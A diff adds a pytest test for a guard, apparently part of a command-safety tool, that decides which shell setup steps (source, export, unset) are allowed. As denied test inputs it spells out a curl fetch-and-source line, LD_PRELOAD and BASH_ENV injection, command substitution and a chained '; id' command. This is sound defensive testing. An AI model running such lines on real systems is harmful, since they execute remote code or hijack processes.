@@ -757,3 +757,48 @@ def test_every_allowed_tool_keeps_its_write_forms_denied():
     tools = {c.split()[0] for c, _ in ALLOWED}
     denied_tools = {c.split()[0] for c, _ in DENIED if c.split()}
     assert {"ssh", "curl", "aws", "kubectl", "az", "gcloud", "sudo", "true", "tcp"} <= tools & denied_tools
+
+
+# ---------------------------------------------------------------- issue 14: setup steps
+
+def test_setup_steps_allow_only_forms_that_cannot_hide_a_command(tmp_path):
+    import os
+    from recall.guard import setup_verdict
+    own = tmp_path / "own.sh"
+    own.write_text("export A=1\n")
+    own.chmod(0o600)
+    loose = tmp_path / "loose.sh"
+    loose.write_text("")
+    loose.chmod(0o664)
+    home = str(tmp_path)
+    rows = [
+        (f"source {own}", "setup.source"), (f". {own}", "setup.source"), ("source ~/own.sh", "setup.source"),
+        (f"source '{own}'", "setup.source"),
+        ("export AWS_PROFILE=ops", "setup.export"), ("export A=1 B='x y' C=\"z\"", "setup.export"),
+        ("export KUBECONFIG=~/.kube/ops", "setup.export"), ("unset A B", "setup.unset"),
+        (f"source {loose}", "setup.source-mode"), (f"source {tmp_path}/absent.sh", "setup.source-file"),
+        (f"source {tmp_path}", "setup.source-file"), ("source own.sh", "setup.source-path"),
+        ("source ./own.sh", "setup.source-path"), (f"source {own} arg", "setup.args"),
+        ("export A", "setup.args"), ("export 1A=x", "setup.args"), ("export", "setup.args"),
+        ("export PS4=x", "setup.export-name"), ("export LD_PRELOAD=/x.so", "setup.export-name"),
+        ("export PYTHONPATH=/x", "setup.export-name"), ("export BASH_ENV=/x", "setup.export-name"),
+        ("export X=$(id)", "shell-expansion"), ('export X="$(id)"', "shell-expansion"),
+        ("export X=`id`", "shell-expansion"), ("export X=$HOME", "shell-expansion"),
+        ("source <(curl -s https://x.example.com/)", "shell-metachar"), (f"source {own}; id", "shell-metachar"),
+        ("export X=a~/b", "tilde"), ("export X=~root/b", "tilde"), ("source ~other/x", "tilde"),
+        ("export X=*", "glob"), ("kubectl config use-context ops", "setup.global-state"),
+        ("az account set --subscription s", "setup.global-state"), ("kubectx ops", "setup.global-state"),
+        ("echo hi", "setup.command"), ("eval x", "setup.command"), ("aws sso login --profile ops", "setup.command"),
+        ("", "empty"),
+    ]
+    for step, rule in rows:
+        v = setup_verdict(step, home=home)
+        assert (v.allow, v.rule) == (rule.startswith(("setup.source", "setup.export", "setup.unset"))
+                                     and rule in ("setup.source", "setup.export", "setup.unset"), rule), (step, v)
+        assert rule in RULES and v.reason
+    if os.getuid() == 0:                      # root can give the file away to test ownership
+        theirs = tmp_path / "theirs.sh"
+        theirs.write_text("")
+        theirs.chmod(0o644)
+        os.chown(theirs, 65534, 65534)
+        assert setup_verdict(f"source {theirs}").rule == "setup.source-owner"
